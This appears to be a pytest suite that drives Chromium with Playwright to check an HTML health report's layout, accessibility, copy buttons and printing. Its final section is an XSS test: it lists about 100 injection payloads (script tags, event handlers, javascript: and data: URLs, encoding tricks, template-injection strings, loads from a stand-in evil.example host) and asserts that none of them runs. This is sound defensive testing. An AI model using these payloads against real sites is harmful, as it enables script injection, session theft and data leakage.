"""The HTML report in a real Chromium: what it says at first sight, to whom, and that nothing in it ever runs."""

from __future__ import annotations

import dataclasses
import enum
import html
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, ViewportSize

from allodoc_health.run import Defect, TargetReport
from reports.history import Past
from tests.beds.browser import Watched
from tests.beds.browser import browser as browser
from tests.beds.pages import SITUATIONS, PageOf, everything, written
from tests.beds.pages import page_of as page_of

DESKTOP: ViewportSize = {"width": 1280, "height": 800}
PHONE: ViewportSize = {"width": 390, "height": 844}
INCIDENTS = [name for name in SITUATIONS if name != "healthy"]


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A tab on a desktop."""
    context = browser.new_context(viewport=DESKTOP)
    yield context.new_page()
    context.close()


def in_sight(page: Page, selector: str) -> str:
    """The text of the first element of a kind, which has to stand on the first screen as a whole."""
    element = page.locator(selector).first
    box, size = element.bounding_box(), page.viewport_size
    assert box is not None, f"{selector} is not shown"
    assert size is not None
    assert box["y"] >= 0, f"{selector} stands above the screen"
    assert box["y"] + box["height"] <= size["height"], f"{selector} ends at {box['y'] + box['height']:.0f}"
    assert box["x"] + box["width"] <= size["width"], f"{selector} is wider than the screen"
    return " ".join((element.text_content() or "").split())


class TestFirstSight:
    """What is wrong, how do I know, what do I do, whom do I call: without scrolling."""

    @pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
    @pytest.mark.parametrize("situation", INCIDENTS)
    def test_an_incident(self, page: Page, page_of: PageOf, tmp_path: Path, situation: str, size: ViewportSize) -> None:
        """State, moment, root cause, proof, what to do, how long it takes, and whom to call."""
        report = SITUATIONS[situation]()
        page.set_viewport_size(size)
        page.goto(written(page_of(report), tmp_path))
        assert in_sight(page, ".banner h2") == "prod is failing"
        assert in_sight(page, ".when").startswith("Tue 24 Nov 2026 02:12:40 UTC")
        assert "call the manager" in in_sight(page, ".whom")
        assert "Usual time to resolve" in in_sight(page, ".whom")
        root = report.finding(report.verdict.root_causes[0])
        assert in_sight(page, ".cause h3") == " ".join(root.message.split())
        if root.measurements:
            in_sight(page, ".cause .bar")
        in_sight(page, ".look .command")
        in_sight(page, ".look .copy")
        if size is DESKTOP:
            in_sight(page, ".mend .command" if report.remedies[root.name].mend[0].commands else ".mend li")
        assert page.evaluate("document.documentElement.scrollWidth") <= size["width"]

    @pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
    def test_nothing_is_wrong(self, page: Page, page_of: PageOf, tmp_path: Path, size: ViewportSize) -> None:
        """The state, and the map with every service on it."""
        page.set_viewport_size(size)
        page.goto(written(page_of(SITUATIONS["healthy"]()), tmp_path))
        assert in_sight(page, ".banner h2") == "prod has warnings"
        in_sight(page, ".map")
        assert page.locator(".map .node .role").all_text_contents() == [
            "browser", "nginx", "frontend", "backend", "postgres", "redis"
        ]  # fmt: skip


def test_it_reads_the_same_without_javascript(browser: Browser, page_of: PageOf, tmp_path: Path) -> None:
    """Mail clients run no script: all the text is there, and no button that does nothing."""
    report, past, comparison = everything()
    address = written(page_of(report, past=past, comparison=comparison), tmp_path)
    with browser.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        page.goto(address)
        assert page.locator("button").count() == 0
        text = page.locator("main").text_content() or ""
    for said in (
        "94 of 97 client connections",
        "began 3 times this month",
        "comes and goes",
        "postgres breaks",
        "at its limit in 9 d",
        "▲ worse db.connection-headroom: pass → fail",
        "sorry, too many clients already",
        "ran out 30 d ago",
        "The run ended before their turn came",
        "Redis",
    ):
        assert said.lower() in text.lower(), said


def test_a_command_is_copied_whole(browser: Browser, page_of: PageOf, tmp_path: Path) -> None:
    """The button beside a command puts it on the clipboard as it stands in the remedy, by keyboard, too."""
    report = SITUATIONS["out of connections"]()
    remedy = report.remedies["db.connection-headroom"]
    with browser.new_context(permissions=["clipboard-read", "clipboard-write"]) as context:
        page = context.new_page()
        page.goto(written(page_of(report), tmp_path))
        page.locator(".mend .copy").first.focus()
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Copy the command").filter(has_text="Copied").wait_for(timeout=5000)
        assert page.evaluate("navigator.clipboard.readText()") == remedy.mend[0].commands[0]
        assert page.get_by_role("status").inner_text() == "The command is copied."


def test_a_command_is_selected_where_there_is_no_clipboard(page: Page, page_of: PageOf, tmp_path: Path) -> None:
    """Without a clipboard for scripts the command is at least selected."""
    report = SITUATIONS["out of connections"]()
    page.add_init_script("delete Navigator.prototype.clipboard")
    page.goto(written(page_of(report), tmp_path))
    page.locator(".look .copy").first.click()
    command = report.remedies["db.connection-headroom"].look[0].commands[0]
    assert page.evaluate("getSelection().toString()") == command


def test_checks_are_filtered_and_found(page: Page, page_of: PageOf, tmp_path: Path) -> None:
    """By outcome without any script, by words with one; what a search finds is shown though its chapter is folded."""
    page.goto(written(page_of(SITUATIONS["out of connections"]()), tmp_path))
    blocked, well = page.locator("tr.blocked").first, page.locator("tr.pass").first
    assert blocked.is_visible()
    assert not well.is_visible()  # there are more urgent things
    page.get_by_label("blocked").uncheck()
    assert not blocked.is_visible()
    page.get_by_role("searchbox").fill("host disk")
    assert [row.split()[2] for row in page.locator("tbody tr:visible").all_inner_texts()] == ["host.disk[root]"]
    page.get_by_role("searchbox").fill("")
    assert page.locator("tr.fail").first.is_visible()


def test_on_paper_nothing_is_folded(page: Page, page_of: PageOf, tmp_path: Path) -> None:
    """A print shows what is folded on the screen, and no buttons."""
    page.goto(written(page_of(SITUATIONS["crash loop"]()), tmp_path))
    assert not page.locator(".meaning p").first.is_visible()
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert page.locator(".meaning p").first.is_visible()
    assert not page.locator(".copy").first.is_visible()


@pytest.mark.parametrize("situation", [*SITUATIONS, "everything"])
def test_everybody_can_read_it(page: Page, page_of: PageOf, tmp_path: Path, situation: str) -> None:
    """axe-core finds no violation: contrast in light and dark, names, roles, headings, what the keyboard reaches."""
    if situation == "everything":
        report, past, comparison = everything()
        page.goto(written(page_of(report, past=past, comparison=comparison), tmp_path))
    else:
        page.goto(written(page_of(SITUATIONS[situation]()), tmp_path))
    page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    for scheme, options in (("light", {}), ("dark", {"runOnly": ["color-contrast"]})):
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]  # one of two
        found = Axe().run(page, options=options)
        assert "color-contrast" in {rule["id"] for rule in found.response["passes"]}  # it did look
        assert not found.violations_count, f"{scheme}: {found.generate_report()}"


# -- nothing leaks, nothing executes ---------------------------------------------------------------------------------

RUN = "window.pwned=1"
SHAPES = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "</title><script>{run}</script>",
    "</code></pre><script>{run}</script>",
    "</svg><script>{run}</script>",
    "</template><script>{run}</script>",
    "</noscript><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror={run} x='",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "`><img src=x onerror={run}>",
    '" onmouseover="{run}" x="',
    "' onmouseover='{run}' x='",
    '" autofocus onfocus="{run}" tabindex="0',
    '" style="background:url(https://evil.example/)" x="',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={run}>'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'/></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<math href='javascript:{run}'>x</math>",
    "<body onload={run}>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data='javascript:{run}'></object>",
    "<object data=https://evil.example/></object>",
    "<embed src='javascript:{run}'>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{{background:url(https://evil.example/)}}</style>",
    "<div style=background:url(https://evil.example/)>x</div>",
    "<video src=https://evil.example/ autoplay onerror={run}></video>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<picture><source srcset=https://evil.example/><img src=x onerror={run}></picture>",
    "<img srcset='https://evil.example/x 1x'>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<keygen autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<form action='javascript:{run}'><button>Copy</button></form>",
    "<form><button formaction='javascript:{run}'>Copy</button></form>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='java&#09;script:{run}'>x</a>",
    "<a href=https://evil.example/ ping=https://evil.example/>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&lt;img src=x onerror={run}&gt;",
    "&amp;lt;script&amp;gt;{run}",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "＜script＞{run}＜/script＞",
    "<script\x0c>{run}</script>",
    "<script\t>{run}</script>",
    "<img/src=x/onerror={run}>",
    "<img\nsrc=x\nonerror={run}>",
    "<x onclick={run} tabindex=0 autofocus onfocus={run}>x",
    "<x contenteditable onblur={run} autofocus>",
    "<!--<img src='--><img src=x onerror={run}//'>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "<!DOCTYPE x [<!ENTITY e '<script>{run}</script>'>]>&e;",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{% include '/etc/passwd' %}}",
    "${{{run}}}",
    "#{{{run}}}",
    "';{run};'",
    '";{run};"',
    "`;{run};`",
    "\\';{run};//",
    "*/{run}/*",
    "\n{run}\n//",
    "\u2028{run}\u2029",
    "\u202e<script>{run}</script>",
    "\x00<script>{run}</script>",
    "\x1b]8;;javascript:{run}\x07x\x1b]8;;\x07<img src=x onerror={run}>",
)
PAYLOADS = [shape.format(run=RUN) for shape in SHAPES]
GROUP = 14
"""So many payloads fit on one page, each with a target of its own, before it leaves anything out."""


def poisoned(value: Any, payload: str) -> Any:
    """The same value with the payload in the place of every text in it, the keys of mappings included."""
    if isinstance(value, enum.Enum):
        return value
    if isinstance(value, str):
        return payload
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changed = {
            field.name: poisoned(getattr(value, field.name), payload)
            for field in dataclasses.fields(value)
            if field.init
        }
        return dataclasses.replace(value, **changed)
    if isinstance(value, Mapping):
        return {f"{payload}{place}": poisoned(item, payload) for place, item in enumerate(value.values())}
    if isinstance(value, tuple | list):
        return type(value)(poisoned(item, payload) for item in value)
    return value


def poisoned_report(payload: str, number: int) -> tuple[TargetReport, Past]:
    """A report in which every text that comes from outside is a payload: evidence, findings, names, remedies."""
    report, past, _ = everything()
    names = {each.name: f"{each.id}[{payload}]" for each in report.findings}
    findings = [
        dataclasses.replace(
            each,
            target=f"{payload}{number}",
            parameter=payload,
            message=f"{payload}\n{payload}",
            details=(payload, payload),
            measurements=poisoned(each.measurements, payload),
            title=payload,
            blocked_by=each.blocked_by and names.get(each.blocked_by, payload),
            caused_by=tuple(names.get(cause, payload) for cause in each.caused_by),
            escalation_reason=payload,
            remedy=payload,
            nodeid=f"{each.nodeid}[{payload}]{number}",
        )
        for each in report.findings
    ]
    verdict = dataclasses.replace(
        report.verdict,
        root_causes=tuple(names[name] for name in report.verdict.root_causes),
        consequences=tuple(names[name] for name in report.verdict.consequences),
        escalation_reason=payload,
    )
    services = {role: {"container": payload} for role in report.target.roles}
    target = report.target.model_copy(
        update={
            "name": f"{payload}{number}",
            "origin": payload,
            "undiscovered": payload,
            "found": dict.fromkeys(report.target.roles, payload),
            "services": type(report.target.services).model_validate(services),
            "waivers": tuple(
                waiver.model_copy(update={"reason": payload, "owner": payload}) for waiver in report.target.waivers
            ),
        }
    )
    kept = {name.partition("[")[0]: name for name in report.evidence}
    poison = dataclasses.replace(
        report,
        target=target,
        findings=findings,
        verdict=verdict,
        evidence={
            (f"{probe}[{payload}]" if "[" in name else name): poisoned(report.evidence[name], payload)
            for probe, name in kept.items()
        },
        timings={payload: 1.0},
        remedies={names[name]: poisoned(remedy, payload) for name, remedy in report.remedies.items()},
        defects=(Defect(payload, payload, payload, payload),),
        not_run=(payload,),
        cut_short=payload,
        replayed=payload,
        warnings=(payload,),
    )
    key = (names["db.connection-headroom"], payload)
    return poison, dataclasses.replace(
        past, trends={key: next(iter(past.trends.values()))}, flapping=frozenset(names.values())
    )


def markup(page: Page, within: str) -> set[str]:
    """What a part of a page is made of: tags, attributes, and the first letters of where its links lead."""
    found = page.evaluate(
        """(within) => [...document.querySelectorAll(within)].flatMap((one) => [
            one.tagName,
            ...one.getAttributeNames().map((name) => one.tagName + "." + name),
            ...["href", "src", "action"].map((name) => one.getAttribute(name)).filter(Boolean).map((link) => link[0]),
        ])""",
        within,
    )
    return set(found)


FRAME = (
    "html, head, head > meta, head > title, head > style, body, body > header, h1, main, nav, nav *, "
    "body > footer, footer *, body > script"
)


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), GROUP))
def test_nothing_that_was_observed_runs(page: Page, page_of: PageOf, tmp_path: Path, first: int) -> None:
    """Payloads, each in every field of a target of its own, beside one with harmless texts: no dialog, no request,
    no script, no markup that the harmless one does not have, and the text is there as it was observed.
    """
    payloads = PAYLOADS[first : first + GROUP]
    made_up = [poisoned_report(text, number) for number, text in enumerate(("harmless `word`", *payloads))]
    made = page_of(*(report for report, _ in made_up), past=made_up[0][1])
    assert "To stay under 1 MB" not in made  # every field is on the page
    address = written(made, tmp_path)
    watched = Watched(page)
    page.goto(address)
    page.evaluate(
        """() => {
            for (const one of document.querySelectorAll("details")) one.open = true;
            const kinds = ["mouseover", "focus", "click"].map((kind) => new Event(kind, { bubbles: true }));
            for (const one of document.querySelectorAll("main p, main code, main li, main td"))
                for (const kind of kinds) one.dispatchEvent(kind);
        }"""
    )
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.pwned") is None
    assert watched.dialogs == []
    assert watched.requests == [address]
    assert watched.complaints == []  # not even an attempt that the policy had to stop
    assert markup(page, f"*:not(:is({FRAME}))") <= markup(page, "#target-1, #target-1 *")
    assert [page.locator(name).count() for name in ("script", "style", "meta", "head > title")] == [1, 1, 6, 1]
    shown = html.unescape(made)
    for payload in payloads:
        assert payload.splitlines()[0] in shown, payload
